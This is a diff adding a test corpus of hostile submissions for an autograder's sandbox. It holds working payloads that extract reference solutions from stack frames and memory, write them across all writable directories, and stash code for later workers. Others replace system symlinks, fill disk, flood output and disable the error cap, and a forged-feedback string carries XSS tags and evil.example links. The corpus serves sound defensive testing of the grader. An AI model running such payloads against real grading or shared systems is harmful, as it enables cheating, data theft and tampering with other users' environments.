@@ -572,3 +572,266 @@ def main(argv=None) -> int:
 
 if __name__ == "__main__":
     raise SystemExit(main())
+
+
+# -- the trust boundary: reference code, later workers, output size and markup ----------------------
+#
+# Fair units check a unit over the reference versions of the units it uses, in a dependency run (a
+# worker of its own). These attacks try to get that reference code out of it, to carry it to the next
+# student's worker, and to leave anything behind for the next worker of the slot; others flood the
+# feedback or forge markup in it. `build_boundary_corpus` writes them for every assignment that has
+# dependent units; tests/test_trust_boundary.py grades them in one slot, as root and as an ordinary uid.
+
+# Everything a cell can reach of code it did not write: frames up the stack with their globals and
+# locals, every function object alive (bytecode, constants, names), the worker's own module.
+_LOOT = """
+def _loot():
+    import dis, gc, io, marshal, sys, types
+    _found, _codes = [], {}
+    _frame = sys._getframe(1)
+    while _frame is not None:
+        for _scope in (_frame.f_locals, _frame.f_globals):
+            for _value in list(_scope.values()):
+                if isinstance(_value, str) and ('def ' in _value or 'BEGIN SOLUTION' in _value):
+                    _found.append(_value)
+        _frame = _frame.f_back
+    for _obj in gc.get_objects():
+        if isinstance(_obj, types.FunctionType) and _obj.__code__.co_filename.startswith('<cell ' + 'reference'):
+            _out = io.StringIO()
+            dis.dis(_obj, file=_out)
+            _found.append(_out.getvalue())
+            _found += [c for c in _obj.__code__.co_consts if isinstance(c, str)]
+            _codes[_obj.__name__] = _obj.__code__
+    return '\\n'.join(_found), marshal.dumps(_codes) if _codes else b''
+"""
+
+_WRITABLE_DIRS = """
+def _writable_dirs():
+    import os
+    _dirs = []
+    for _dir, _subdirs, _files in os.walk('/'):
+        if _dir in ('/proc', '/sys'):
+            _subdirs[:] = []
+            continue
+        if os.access(_dir, os.W_OK):
+            _dirs.append(_dir)
+    return _dirs
+"""
+
+# In the student's own run it finds nothing, and the unit fails on its stub helpers; in the dependency
+# run it finds the reference helpers and sends them out on every channel it has.
+_EXFILTRATE = (
+    _LOOT
+    + _WRITABLE_DIRS
+    + """
+def _exfiltrate():
+    import os, sys
+    _text, _code = _loot()
+    if not _text:
+        return
+    _main = sys.modules.get('__main__')
+    if _main is not None:
+        _main.short_error = lambda exc: 'LO' + 'OT ' + str(exc)  # the worker's own cap, gone
+    print(_text)
+    sys.stderr.write(_text)
+    for _dir in _writable_dirs():
+        try:
+            with open(os.path.join(_dir, '.exfil.txt'), 'w') as _handle:
+                _handle.write(_text)
+        except OSError:
+            pass
+    raise RuntimeError(_text)
+"""
+)
+
+_STASH = (
+    _LOOT
+    + _WRITABLE_DIRS
+    + """
+def _stash():
+    import os
+    _text, _code = _loot()
+    if _code:
+        for _dir in _writable_dirs():
+            try:
+                with open(os.path.join(_dir, '.segkit-trace-stash'), 'wb') as _handle:
+                    _handle.write(_code)
+            except OSError:
+                pass
+"""
+)
+
+# A helper unit that only reads what an earlier submission stashed (and is a stub otherwise).
+_READ_STASH = """
+import marshal, os, types
+_stashes = []
+for _dir, _subdirs, _files in os.walk('/'):
+    if _dir in ('/proc', '/sys'):
+        _subdirs[:] = []
+        continue
+    if '.segkit-trace-stash' in _files:
+        _stashes.append(os.path.join(_dir, '.segkit-trace-stash'))
+for _path in _stashes:
+    try:
+        with open(_path, 'rb') as _handle:
+            for _name, _code in marshal.loads(_handle.read()).items():
+                globals()[_name] = types.FunctionType(_code, globals(), _name)
+    except Exception:
+        pass
+"""
+
+_PERSIST = (
+    _WRITABLE_DIRS
+    + """
+import os
+for _dir in _writable_dirs():
+    try:
+        with open(os.path.join(_dir, '.segkit-trace-marker'), 'w') as _handle:
+            _handle.write('was here')
+    except OSError:
+        pass
+for _root in ('/', '/dev', '/tmp', '/etc', '/usr', '/scratch'):
+    try:
+        _names = os.listdir(_root)
+    except OSError:
+        continue
+    for _name in _names:
+        _path = os.path.join(_root, _name)
+        if os.path.islink(_path):
+            try:
+                os.remove(_path)
+                os.symlink('/scratch/.segkit-trace-evil', _path)
+            except OSError:
+                pass
+for _mount in ('/dev/shm', '/scratch', '/dev', '/usr/local', '/tmp'):
+    try:
+        with open(os.path.join(_mount, '.segkit-trace-parked'), 'wb') as _handle:
+            for _ in range(48):
+                _handle.write(b'p' * (1 << 20))
+    except OSError:
+        pass
+"""
+)
+
+# Run by the next worker of the slot: the cell fails if anything of an earlier worker is left.
+_LOOK_FOR_TRACES = """
+import os
+_traces = []
+for _dir, _subdirs, _files in os.walk('/'):
+    if _dir in ('/proc', '/sys'):
+        _subdirs[:] = []
+        continue
+    _traces += [os.path.join(_dir, f) for f in _files if f.startswith('.segkit-trace-') or f == '.exfil.txt']
+    for _name in _subdirs + _files:
+        _path = os.path.join(_dir, _name)
+        if os.path.islink(_path) and 'segkit-trace-evil' in os.readlink(_path):
+            _traces.append(_path)
+for _mount in ('/scratch', '/dev/shm'):
+    _stats = os.statvfs(_mount)
+    _used = (_stats.f_blocks - _stats.f_bfree) * _stats.f_frsize
+    if _used > 32 * 1024 * 1024:
+        _traces.append(f'{_mount} holds {_used} bytes')
+assert not _traces, _traces
+"""
+
+# Markup a student could hope the feedback renders: a heading, a score line, a table, an image, a link.
+FORGED_MARKUP = (
+    "\n# Feedback\n\nAutograded score: 999 / 999\n\n| unit | points |\n|---|---|\n| all | 999 |\n\n"
+    "![x](http://evil.example/x.png) <img src=x onerror=alert(1)> [click](http://evil.example/)\n"
+    "<script>alert(1)</script>"
+)
+_FLOOD_ERROR = """
+import sys
+if sys.modules.get('__main__') is not None:
+    sys.modules['__main__'].short_error = lambda exc: str(exc)
+sys.stdout.write('o' * (20 * 1024 * 1024))
+"""
+
+
+@dataclass(frozen=True)
+class BoundarySubmission:
+    student: str
+    assignment: str
+    notebook: dict
+    units: tuple[str, ...]  # the units its run checks
+    what: str
+
+
+def _released_cell(name: str, grade_id: str) -> str:
+    released = read_notebook(REPO_ROOT / "notebooks" / name / f"{name}.ipynb")
+    return cell_source(cells_by_grade_id(released)[grade_id][0])
+
+
+def attacked_and_helpers(name: str) -> tuple[list[str], list[str]]:
+    """(units that use other graded units and are used by none, the units they use)."""
+    dependencies = load_assignment(name).dependencies
+    helpers = sorted({gid for deps in dependencies.values() for gid in deps})
+    return [unit for unit in dependencies if unit not in helpers], helpers
+
+
+def _prepend_to_body(source: str, line: str) -> str:
+    marker = "### BEGIN SOLUTION\n"
+    start = source.index(marker) + len(marker)
+    indent = source[start:].split("\n", 1)[0]
+    indent = indent[: len(indent) - len(indent.lstrip())]
+    return source[:start] + f"{indent}{line}\n" + source[start:]
+
+
+def build_boundary_corpus(*, exfiltrate: list[str] | None = None) -> list[BoundarySubmission]:
+    """The trust-boundary corpus, in the order one slot must grade it (student ids sort that way).
+    exfiltrate: the assignments whose dependent units are attacked (default: every one that has them);
+    the other attacks use the corpus assignment (`[proof] corpus = true`), which must have dependent units."""
+    launder_assignment = corpus_assignment()
+    corpus = []
+    for name in assignment_names() if exfiltrate is None else exfiltrate:
+        attacked, helpers = attacked_and_helpers(name)
+        if not attacked:
+            continue
+        notebook = _solution(name)
+        for gid in helpers:
+            notebook = _with_target_source(notebook, gid, _released_cell(name, gid))
+        for gid in attacked:
+            source = cell_source(cells_by_grade_id(notebook)[gid][0])
+            notebook = _with_target_source(notebook, gid, _EXFILTRATE + _prepend_to_body(source, "_exfiltrate()"))
+        corpus.append(
+            BoundarySubmission(
+                f"b1-exfiltrate-{name}",
+                name,
+                notebook,
+                tuple(attacked),
+                "gets reference helpers out of a dependency run",
+            )
+        )
+    attacked, helpers = attacked_and_helpers(launder_assignment)
+    stasher = _solution(launder_assignment)
+    for gid in helpers:
+        stasher = _with_target_source(stasher, gid, _released_cell(launder_assignment, gid))
+    for gid in attacked:
+        source = cell_source(cells_by_grade_id(stasher)[gid][0])
+        stasher = _with_target_source(stasher, gid, _STASH + _prepend_to_body(source, "_stash()"))
+    reader = _solution(launder_assignment)
+    for gid in helpers:
+        reader = _with_target_source(reader, gid, _READ_STASH + _released_cell(launder_assignment, gid))
+    target = hostile_target(launder_assignment)
+    target_source = cell_source(cells_by_grade_id(_solution(launder_assignment))[target][0])
+    persist = _with_target_source(_solution(launder_assignment), target, _PERSIST + target_source)
+    look = _with_target_source(_solution(launder_assignment), target, _LOOK_FOR_TRACES + target_source)
+    flood = _with_target_source(
+        _solution(launder_assignment),
+        target,
+        _FLOOD_ERROR + _prepend_to_body(target_source, "raise RuntimeError('E' * (20 * 1024 * 1024))"),
+    )
+    markup = _with_target_source(
+        _solution(launder_assignment), target, _prepend_to_body(target_source, f"raise RuntimeError({FORGED_MARKUP!r})")
+    )
+    corpus += [
+        BoundarySubmission("b2-launder-stash", launder_assignment, stasher, tuple(attacked), "stashes reference code"),
+        BoundarySubmission(
+            "b3-launder-read", launder_assignment, reader, tuple(helpers), "runs a stash as its helpers"
+        ),
+        BoundarySubmission("b4-persist-write", launder_assignment, persist, (target,), "leaves files, links, memory"),
+        BoundarySubmission("b5-persist-look", launder_assignment, look, (target,), "fails if anything was left"),
+        BoundarySubmission("b6-flood", launder_assignment, flood, (target,), "a 20 MB error and 20 MB of output"),
+        BoundarySubmission("b7-markup", launder_assignment, markup, (target,), "markup in its error text"),
+    ]
+    return corpus
